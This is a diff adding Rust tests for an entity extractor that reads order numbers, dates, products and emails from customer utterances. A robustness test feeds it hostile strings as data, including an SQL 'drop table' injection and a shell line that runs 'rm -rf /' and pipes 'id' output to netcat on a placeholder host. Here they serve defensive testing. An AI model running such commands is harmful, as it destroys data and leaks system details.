@@ -1,0 +1,263 @@
+//! Whole-utterance tests of [`extract`]: how the extractors combine, the JSON shape, and
+//! robustness on hostile input. Each extractor's own cases live beside it.
+
+use std::sync::OnceLock;
+
+use proptest::prelude::*;
+
+use super::*;
+use crate::demo::{catalog, Rng, DEMO_SEED};
+
+fn now() -> NaiveDateTime {
+    NaiveDate::from_ymd_opt(2026, 3, 10)
+        .and_then(|d| d.and_hms_opt(10, 0, 0))
+        .expect("valid")
+}
+
+fn matcher() -> &'static ProductMatcher {
+    static M: OnceLock<ProductMatcher> = OnceLock::new();
+    M.get_or_init(|| ProductMatcher::new(&catalog(&mut Rng::new(DEMO_SEED))))
+}
+
+fn ex_with(text: &str, expect: Option<EntityKind>) -> Entities {
+    let ctx = EntityContext {
+        now: now(),
+        products: Some(matcher()),
+        expect,
+    };
+    extract(text, &ctx)
+}
+
+fn ex(text: &str) -> Entities {
+    ex_with(text, None)
+}
+
+fn json(text: &str) -> String {
+    serde_json::to_string(&ex(text)).expect("serialises")
+}
+
+fn date(s: &str) -> Option<NaiveDate> {
+    NaiveDate::parse_from_str(s, "%Y-%m-%d").ok()
+}
+
+#[test]
+fn serialises_only_present_entities_with_design_names() {
+    assert_eq!(json("hello there"), "{}");
+    assert_eq!(
+        json("move order 4412 8873 to the 17th in the afternoon"),
+        r#"{"order_number":"44128873","date":"2026-03-17","time_slot":"afternoon"}"#
+    );
+    assert_eq!(
+        json("cancel order 1234567891234 i found it cheaper"),
+        r#"{"order_number":"1234567891234","cancel_reason":"found_cheaper"}"#
+    );
+    let back: Entities =
+        serde_json::from_str(r#"{"quantity":2,"refund_method":"store_credit"}"#).expect("parses");
+    assert_eq!(back.quantity, Some(2));
+    assert_eq!(back.refund_method, Some(RefundMethod::StoreCredit));
+    assert_eq!(
+        serde_json::to_string(&EntityKind::FrequencyDays).expect("serialises"),
+        "\"frequency_days\""
+    );
+}
+
+#[test]
+fn orders_with_quantities_and_products() {
+    let e = ex("can i get two bags of coffee beans");
+    assert_eq!(e.quantity, Some(2));
+    assert_eq!(e.product.as_deref(), Some("COF-BEAN-500G"));
+    assert_eq!(e.order_number, None);
+
+    let e = ex("i need a couple of navy t shirts in medium");
+    assert_eq!(
+        (e.quantity, e.product.as_deref()),
+        (Some(2), Some("TEE-NAVY-M"))
+    );
+
+    let e = ex("buy a hoodie in large");
+    assert_eq!(e.quantity, Some(1));
+    assert_eq!(e.product.as_deref(), Some("HOOD-BLACK-L"));
+
+    let e = ex("get me half a dozen coffee pods");
+    assert_eq!(
+        (e.quantity, e.product.as_deref()),
+        (Some(6), Some("COF-POD"))
+    );
+
+    let e = ex(
+        "order one two three four five six seven eight nine one two three four two bags of coffee",
+    );
+    assert_eq!(e.order_number.as_deref(), Some("1234567891234"));
+    assert_eq!(e.quantity, Some(2));
+
+    let e = ex("i'll take that one");
+    assert_eq!(e.quantity, None);
+}
+
+#[test]
+fn identifiers_in_context() {
+    let e = ex("it's um one two three four five six seven eight nine one two three four");
+    assert_eq!(e.order_number.as_deref(), Some("1234567891234"));
+    assert_eq!(e.quantity, None);
+
+    let e = ex_with("seven eight seven oh one", Some(EntityKind::ZipCode));
+    assert_eq!(e.zip_code.as_deref(), Some("78701"));
+    assert_eq!(e.order_number, None);
+
+    let e = ex("my phone number is five one two five five five oh one nine nine");
+    assert_eq!(e.phone_number.as_deref(), Some("5125550199"));
+
+    let e = ex("order double five two oh nine can you move it to next week");
+    assert_eq!(e.order_number.as_deref(), Some("55209"));
+    assert_eq!(e.date, date("2026-03-16"));
+}
+
+#[test]
+fn emails_keep_their_digits_out_of_identifiers() {
+    let e = ex("my email is john.smith@example.com and the order is 1234 5678 9012");
+    assert_eq!(e.email.as_deref(), Some("john.smith@example.com"));
+    assert_eq!(e.order_number.as_deref(), Some("123456789012"));
+
+    let e = ex("it's jane underscore doe 1990 at gmail dot com");
+    assert_eq!(e.email.as_deref(), Some("jane_doe1990@gmail.com"));
+    assert_eq!(e.order_number, None);
+    assert_eq!(e.quantity, None);
+}
+
+#[test]
+fn scheduling_utterances() {
+    let e = ex("reschedule it to thursday afternoon");
+    assert_eq!(
+        (e.date, e.time_slot),
+        (date("2026-03-12"), Some(TimeSlot::Afternoon))
+    );
+    let e =
+        ex("hiya my groceries are coming at 8 tonight can you make it tomorrow morning instead");
+    assert_eq!(e.date, date("2026-03-11"));
+    assert_eq!(e.quantity, None);
+    let e = ex("reschedule the delivery for order nine nine eight seven six in three days");
+    assert_eq!(e.order_number.as_deref(), Some("99876"));
+    assert_eq!(e.date, date("2026-03-13"));
+    let e = ex("deliver it after 6 on friday");
+    assert_eq!(
+        (e.date, e.time_slot, e.quantity),
+        (date("2026-03-13"), Some(TimeSlot::Evening), None)
+    );
+}
+
+#[test]
+fn subscription_utterances() {
+    let e = ex("i want to subscribe to coffee beans every two weeks");
+    assert_eq!(e.frequency_days, Some(14));
+    assert_eq!(e.product.as_deref(), Some("COF-BEAN-500G"));
+    assert_eq!(e.quantity, None);
+    let e = ex("send me a bag of dog food every month");
+    assert_eq!((e.frequency_days, e.quantity), (Some(30), Some(1)));
+    assert_eq!(e.product.as_deref(), Some("DOG-KIB-6KG"));
+}
+
+#[test]
+fn returns_and_refunds() {
+    let e = ex("the jacket doesn't fit i want to return it and get store credit");
+    assert_eq!(e.return_reason, Some(ReturnReason::SizeIssue));
+    assert_eq!(e.cancel_reason, None);
+    assert_eq!(e.refund_method, Some(RefundMethod::StoreCredit));
+    let e = ex("cancel my order it's taking too long");
+    assert_eq!(e.cancel_reason, Some(CancelReason::DeliveryTooSlow));
+    assert_eq!(e.return_reason, None);
+}
+
+#[test]
+fn a_refund_gift_card_is_not_a_product() {
+    let e = ex("return it and put the money on a gift card");
+    assert_eq!(e.refund_method, Some(RefundMethod::StoreCredit));
+    assert_eq!((e.product, e.quantity), (None, None));
+    let e = ex("i want to buy a gift card for my mum");
+    assert_eq!(e.product.as_deref(), Some("GC-25"));
+    assert_eq!(e.refund_method, None);
+}
+
+#[test]
+fn without_a_catalog_there_is_no_product() {
+    let ctx = EntityContext::new(now());
+    let e = extract("two navy tees in medium", &ctx);
+    assert_eq!(e.product, None);
+    assert_eq!(e.quantity, Some(2));
+}
+
+#[test]
+fn hostile_input_is_harmless() {
+    for s in [
+        "",
+        " \t\n ",
+        "'; drop table orders; --",
+        "$(rm -rf /) && echo `id` | nc evil 1234",
+        "\u{1F600}\u{1F4E6}\u{1F680}",
+        "\0\0\0",
+        "@@@ at at at dot dot dot",
+        "double double triple oh oh oh",
+        "the the the of of of a a a",
+        "\u{202E}mirrored\u{202C} text",
+        "１２３４５６",
+    ] {
+        let e = ex(s);
+        assert!(
+            e.order_number.is_none() && e.email.is_none() && e.product.is_none(),
+            "{s:?}: {e:?}"
+        );
+    }
+}
+
+#[test]
+fn a_hundred_kilobytes_is_fine() {
+    let chunk = "i want two bags of coffee beans every two weeks um order one two three four five six seven eight nine one two three four on friday at jane dot doe at gmail dot com ";
+    let text: String = chunk.repeat(100_000 / chunk.len() + 1);
+    assert!(text.len() >= 100_000);
+    let e = ex(&text);
+    assert_eq!(e.quantity, Some(2));
+    assert_eq!(e.frequency_days, Some(14));
+    assert_eq!(e.email.as_deref(), Some("jane.doe@gmail.com"));
+    let digits = "7".repeat(100_000);
+    assert_eq!(ex(&digits), Entities::default());
+    let words = "seven ".repeat(20_000);
+    assert_eq!(ex(&words).order_number, None);
+}
+
+proptest! {
+    #[test]
+    fn never_panics_on_arbitrary_text(s in "\\PC{0,200}") {
+        let _ = ex(&s);
+    }
+
+    #[test]
+    fn never_panics_on_word_salad(words in proptest::collection::vec(prop_oneof![
+        Just("one"), Just("oh"), Just("double"), Just("twenty"), Just("hundred"), Just("a"),
+        Just("dozen"), Just("at"), Just("dot"), Just("com"), Just("the"), Just("20th"),
+        Just("of"), Just("march"), Just("next"), Just("friday"), Just("week"), Just("every"),
+        Just("in"), Just("days"), Just("not"), Just("zip"), Just("order"), Just("3/20"),
+        Just("bags"), Just("coffee"), Just("hoodie"), Just("large"), Just("cancel"),
+        Just("broken"), Just("12"), Just("999999999999"), Just("am"), Just("after"),
+    ], 0..40)) {
+        let text = words.join(" ");
+        let e = ex(&text);
+        if let Some(d) = e.date {
+            let today = now().date();
+            prop_assert!(d >= today - chrono::Duration::days(800));
+            prop_assert!(d <= today + chrono::Duration::days(1100));
+        }
+        if let Some(o) = &e.order_number {
+            prop_assert!(o.bytes().all(|b| b.is_ascii_digit()) && (5..=20).contains(&o.len()));
+        }
+        if let Some(z) = &e.zip_code {
+            prop_assert_eq!(z.len(), 5);
+        }
+    }
+
+    #[test]
+    fn spoken_order_numbers_round_trip(digits in "[1-9][0-9]{12}") {
+        const NAMES: [&str; 10] = ["oh", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"];
+        let spoken: Vec<&str> = digits.bytes().map(|b| NAMES[usize::from(b - b'0')]).collect();
+        let e = ex(&format!("my order number is {}", spoken.join(" ")));
+        prop_assert_eq!(e.order_number, Some(digits));
+    }
+}
